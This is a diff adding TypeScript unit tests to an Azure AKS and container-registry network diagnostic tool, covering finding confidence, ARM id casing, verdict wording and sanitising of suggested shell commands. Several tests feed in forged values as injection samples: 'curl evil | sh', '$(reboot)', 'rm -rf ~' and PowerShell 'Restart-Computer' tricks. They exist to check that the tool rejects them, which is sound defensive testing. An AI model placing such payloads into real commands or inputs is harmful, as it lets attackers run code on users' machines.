@@ -93,6 +93,16 @@ describe('AKS rules: the cluster\'s networks, DNS and egress against the registr
     });
   }
 
+  it('the load balancer\'s addresses read while the subnets were not: said with medium confidence (a route or NAT gateway there may take the traffic first)', function () {
+    const facts = { resourceId: RESOURCE, publicNetworkAccess: 'Enabled', defaultAction: 'Deny', ipRules: ['198.51.100.0/24'] };
+    const [read] = findings({ ...facts, aks: cluster() });
+    const [unread] = findings({ ...facts, aks: cluster({ unread: ['egress', 'network'] }) });
+    assert.equal(read!.rule, 'aks-egress-not-allowed');
+    assert.equal(read!.confidence, 'high');
+    assert.equal(unread!.rule, 'aks-egress-not-allowed');
+    assert.equal(unread!.confidence, 'medium');
+  });
+
   it('links the cluster\'s own network when it uses Azure DNS, the hub when its DNS servers are there', function () {
     const own = findings({ ...privateRegistry([HUB]), aks: cluster({ networks: [network([], [toHub()])] }) }).find((f) => f.rule === 'aks-vnet-not-linked')!;
     assert.deepEqual(own.fixes[0]!.commands, [`az network private-dns link vnet create --subscription s1 --resource-group rg-dns --zone-name privatelink.azurecr.io --name aks-vnet-link --virtual-network ${SPOKE} --registration-enabled false`]);
@@ -161,6 +171,8 @@ describe('AKS rules: the cluster\'s networks, DNS and egress against the registr
     const real = <T>(value: T): T => JSON.parse(JSON.stringify(value).replaceAll('/subscriptions/s1/', '/subscriptions/0b1f6471-1bf0-4dda-aec3-111122223333/').replaceAll('"k1"', '"5a1e0000-aaaa-4bbb-8ccc-000000000001"')) as T;
     const withAks = (aks: Partial<AksFacts>, more: Facts = {}) => real({ ...report, facts: { ...report.facts, ...more, aks: { ...cluster(), ...aks } } });
     assert.equal(reportProblems(withAks({ networks: [network(['10.0.0.4'], [toHub()])], egressVia: { nextHopType: 'VirtualAppliance', nextHop: '10.0.1.4', firewall: 'hub-fw' } })), undefined, 'what ARM writes passes');
+    // ARM writes some ids as they were written: `resourcegroups`, `Microsoft.network`.
+    assert.equal(reportProblems(withAks({ id: cluster().id.replace('resourceGroups', 'resourcegroups').replace('/subscriptions/s1/', '/subscriptions/0b1f6471-1bf0-4dda-aec3-111122223333/'), nodeSubnetIds: [`${SPOKE.replace('Microsoft.Network', 'Microsoft.network')}/subnets/nodes`] })), undefined, 'ids in any case pass');
     for (const forged of [
       withAks({ name: 'aks-prod; curl evil | sh' }),
       withAks({ id: `${cluster().id}$(reboot)` }),
@@ -168,6 +180,7 @@ describe('AKS rules: the cluster\'s networks, DNS and egress against the registr
       withAks({ nodeSubnetIds: [`${SPOKE}/subnets/nodes\`id\``] }),
       withAks({ networks: [{ id: SPOKE, dnsServers: ['10.0.0.4; x'], peerings: [] }] }),
       withAks({}, { privateDnsZones: [{ id: `${ZONE} --yes`, name: 'privatelink.azurecr.io', records: {}, vnetLinks: [] }] }),
+      withAks({}, { resourceId: '/subscriptions/0b1f6471-1bf0-4dda-aec3-111122223333/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/other' }),
     ]) {
       assert.ok(reportProblems(forged), JSON.stringify(forged.facts).slice(0, 200));
     }
@@ -182,8 +195,12 @@ describe('AKS rules: the cluster\'s networks, DNS and egress against the registr
 
   it('a problem while every check from here passed is said to be the configuration in Azure, not this machine\'s path', function () {
     const pass = { status: 'pass' as const };
-    assert.equal(verdictKey({ verdict: 'problem', checks: [pass, pass] as never }), 'cli.verdict.problemConfiguration');
-    assert.equal(verdictKey({ verdict: 'problem', checks: [pass, { status: 'fail' }] as never }), 'cli.verdict.problem');
+    const fromArm = { cause: 'public-network-rules', confidence: 'high' as const, evidence: ['arm.aks', 'arm.registry'] };
+    assert.equal(verdictKey({ verdict: 'problem', checks: [pass, pass] as never, findings: [fromArm] }), 'cli.verdict.problemConfiguration');
+    assert.equal(verdictKey({ verdict: 'problem', checks: [pass, { status: 'fail' }] as never, findings: [fromArm] }), 'cli.verdict.problem');
+    // An Azure endpoint this machine does not reach is its own path, whatever check it showed in.
+    assert.equal(verdictKey({ verdict: 'problem', checks: [pass] as never, findings: [{ cause: 'client-firewall-or-proxy', confidence: 'medium', evidence: ['arm.registry'] }] }), 'cli.verdict.problem');
+    assert.equal(verdictKey({ verdict: 'problem', checks: [pass] as never, findings: [{ ...fromArm, evidence: ['v2'] }] }), 'cli.verdict.problem');
     assert.equal(verdictKey({ verdict: 'healthy', checks: [pass] as never }), 'cli.verdict.healthy');
     assert.match(t('en', 'cli.verdict.problemConfiguration', { loginServer: 'r.azurecr.io' }), /r\.azurecr\.io answers this machine, but its configuration in Azure keeps the client out/);
   });
@@ -199,6 +216,8 @@ describe('AKS rules: the cluster\'s networks, DNS and egress against the registr
     assert.equal(fillTemplate("curl -sv '{azureUrl}'", { azureUrl: 'http://169.254.169.254/metadata/instance?api-version=2021-02-01' }), "curl -sv 'http://169.254.169.254/metadata/instance?api-version=2021-02-01'");
     assert.equal(fillTemplate("curl -sv '{azureUrl}'", { azureUrl: "https://x/'; rm -rf ~; '" }), "curl -sv 'https://<azure-host>/'");
     assert.equal(fillTemplate('az acr network-rule add --ip-address {clientIp}', { clientIp: '$(reboot)' }), 'az acr network-rule add --ip-address <client-ip>');
+    assert.equal(fillTemplate('az acr network-rule add --ip-address {clientIp}', { clientIp: '1.2.3.4(Restart-Computer)' }), 'az acr network-rule add --ip-address <client-ip>', 'PowerShell reads ( after a word');
+    assert.equal(fillTemplate("curl -sv '{azureUrl}'", { azureUrl: 'https://x/\u2019;Restart-Computer;\u2019' }), "curl -sv 'https://<azure-host>/'", 'PowerShell reads typographic quotes');
     assert.equal(fillTemplate('curl --proxy {proxyWithCredentials} x', { proxyWithCredentials: 'http://<user>:<password>@proxy:3128' }), 'curl --proxy http://<user>:<password>@proxy:3128 x', 'our own placeholders stay');
   });
 });
